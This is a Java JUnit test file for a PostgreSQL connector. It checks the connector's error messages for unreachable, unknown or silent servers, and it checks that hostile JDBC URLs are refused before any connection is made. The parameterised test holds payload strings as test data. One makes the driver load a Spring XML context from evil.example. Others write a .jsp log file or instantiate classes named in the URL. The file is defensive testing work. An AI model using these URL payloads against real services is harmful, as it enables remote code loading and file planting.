package io.knobwright.connectors.postgres;

import io.knobwright.connectors.ConnectionTarget;
import io.knobwright.connectors.ConnectorException;
import io.knobwright.connectors.LocalServices;
import io.knobwright.connectors.SilentServer;
import io.knobwright.connectors.jdbc.ConnectorTimeouts;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Duration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Failures that need no PostgreSQL at all: nothing listening, no such host, a hung server, hostile URLs. */
class PostgresConnectorFailureTest {

    /** A guard against hanging, not a performance goal: the connector's own timeouts are 5 s. */
    private static final long GENEROUS_NANOS = Duration.ofSeconds(10).toNanos();

    private final PostgresConnector connector = new PostgresConnector();

    @Test
    void nothingListeningSaysSoNamingHostAndPort() {
        int port = LocalServices.freePort();
        long start = System.nanoTime();

        assertThatThrownBy(() -> connector.probe(new ConnectionTarget("jdbc:postgresql://127.0.0.1:" + port + "/postgres", "postgres", null)))
                .isInstanceOf(ConnectorException.class)
                .hasMessage("Nothing is listening at 127.0.0.1:" + port + " — is the PostgreSQL server running, and is the port right?");
        assertThat(System.nanoTime() - start).isLessThan(GENEROUS_NANOS);
    }

    @Test
    void unknownHostSaysTheNameDoesNotResolve() {
        long start = System.nanoTime();

        assertThatThrownBy(() -> connector.readSettings(new ConnectionTarget("jdbc:postgresql://db.knobwright.invalid:5432/postgres", "postgres", "pw")))
                .isInstanceOf(ConnectorException.class)
                .hasMessageStartingWith("The host name in db.knobwright.invalid:5432 does not resolve")
                .hasMessageEndingWith("check its spelling, or use the server's IP address.");
        assertThat(System.nanoTime() - start).isLessThan(GENEROUS_NANOS);
    }

    @Test
    void serverThatNeverAnswersTimesOutWithAMessage() throws Exception {
        PostgresConnector impatient = new PostgresConnector(new ConnectorTimeouts(Duration.ofSeconds(1), Duration.ofSeconds(1)));
        try (SilentServer silent = new SilentServer().holdingConnections()) {
            long start = System.nanoTime();

            assertThatThrownBy(() -> impatient.probe(new ConnectionTarget("jdbc:postgresql://127.0.0.1:" + silent.port() + "/postgres", "postgres", null)))
                    .isInstanceOf(ConnectorException.class)
                    .hasMessageStartingWith("PostgreSQL at 127.0.0.1:" + silent.port() + " did not answer within 1 s");
            assertThat(System.nanoTime() - start).isLessThan(GENEROUS_NANOS);
        }
    }

    /**
     * A refusal is the network's own answer: it says more than the clock, even when it came after the connect time
     * (here 1 ms, which a refusal may or may not beat). JdbcGateTest covers a driver that gives up with no such answer.
     */
    @Test
    void aRefusalReadsAsARefusalEvenOnceTheConnectTimeIsSpent() throws Exception {
        int closedPort;
        try (java.net.ServerSocket gone = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            closedPort = gone.getLocalPort();
        }
        PostgresConnector hurried = new PostgresConnector(new ConnectorTimeouts(Duration.ofMillis(1), Duration.ofSeconds(1)));
        assertThatThrownBy(() -> hurried.probe(new ConnectionTarget("jdbc:postgresql://127.0.0.1:" + closedPort + "/postgres",
                "postgres", null))).isInstanceOf(ConnectorException.class).hasMessageStartingWith("Nothing is listening at 127.0.0.1:" + closedPort);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml",
            "sslfactory=com.example.Evil", "sslfactoryarg=x", "sslhostnameverifier=com.example.Evil",
            "sslpasswordcallback=com.example.Evil", "authenticationPluginClassName=com.example.Evil",
            "xmlFactoryFactory=com.example.Evil", "loggerLevel=DEBUG&loggerFile=/tmp/knobwright-evil.jsp",
            "SOCKETFACTORY=com.example.Evil", "socket%46actory=com.example.Evil", "ssl=true&sslfactory=x"})
    void hostileUrlIsRefusedBeforeAnyConnection(String query) throws Exception {
        try (SilentServer witness = new SilentServer()) {
            String hostile = "jdbc:postgresql://127.0.0.1:" + witness.port() + "/postgres?" + query;

            assertThatThrownBy(() -> connector.probe(new ConnectionTarget(hostile, "postgres", null)))
                    .isInstanceOf(ConnectorException.class)
                    .hasMessageStartingWith("Knobwright did not connect: this JDBC URL sets ")
                    .hasMessageContaining("are refused. Remove");
            assertThat(witness.anyoneConnected(300)).as("the driver must not have connected").isFalse();
        }
    }

    @Test
    void ordinaryDriverPropertiesAreNotRefused() throws Exception {
        PostgresConnector impatient = new PostgresConnector(new ConnectorTimeouts(Duration.ofSeconds(1), Duration.ofSeconds(1)));
        try (SilentServer witness = new SilentServer()) {
            String url = "jdbc:postgresql://127.0.0.1:" + witness.port() + "/postgres?sslmode=disable&ApplicationName=ticket-4711&options=-c%20search_path%3Dpublic";

            assertThatThrownBy(() -> impatient.probe(new ConnectionTarget(url, "postgres", null)))
                    .isInstanceOf(ConnectorException.class)
                    .hasMessageNotContaining("Knobwright did not connect");
            assertThat(witness.anyoneConnected(300)).as("the driver got to connect").isTrue();
        }
    }

    @Test
    void refusalNamesEveryHostilePropertyAndWhatItWouldDo() {
        String hostile = "jdbc:postgresql://127.0.0.1:1/postgres?sslmode=require&socketFactory=a.B&loggerFile=/tmp/x";

        assertThatThrownBy(() -> connector.probe(new ConnectionTarget(hostile, "postgres", null)))
                .hasMessage("Knobwright did not connect: this JDBC URL sets socketFactory (it would make the driver instantiate a class"
                        + " named in the URL); loggerFile (it would write a log file at a path named in the URL). URLs that make the"
                        + " PostgreSQL driver load code or files, change the server while connecting, or wait without limit are refused."
                        + " Remove those properties from the URL and try again.");
    }

    @Test
    void urlOfAnotherEngineIsRefusedWithTheExpectedForm() {
        assertThatThrownBy(() -> connector.probe(new ConnectionTarget("jdbc:mariadb://h:3306/?password=secret", "root", null)))
                .isInstanceOf(ConnectorException.class)
                .hasMessage("Not a PostgreSQL JDBC URL: 'jdbc:mariadb://h:3306/?password=***'. It should look like jdbc:postgresql://host:5432/postgres.");
    }
}
